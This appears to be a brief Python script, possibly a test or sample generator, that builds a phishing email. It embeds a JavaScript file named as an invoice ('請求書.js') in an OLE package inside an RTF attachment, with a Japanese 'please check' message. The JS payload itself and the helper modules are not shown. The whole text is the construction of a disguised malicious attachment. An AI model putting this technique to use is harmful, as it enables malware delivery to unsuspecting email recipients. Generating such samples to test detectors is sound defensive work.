# A script packed into an RTF by drag and drop.
from office import *
from parts import *

book = rtf(rtf_object(ole1(b"Package", package("請求書.js", JS))))
message = mail(join([text_part("ご確認ください。"), file_part("請求書.rtf", book)]))
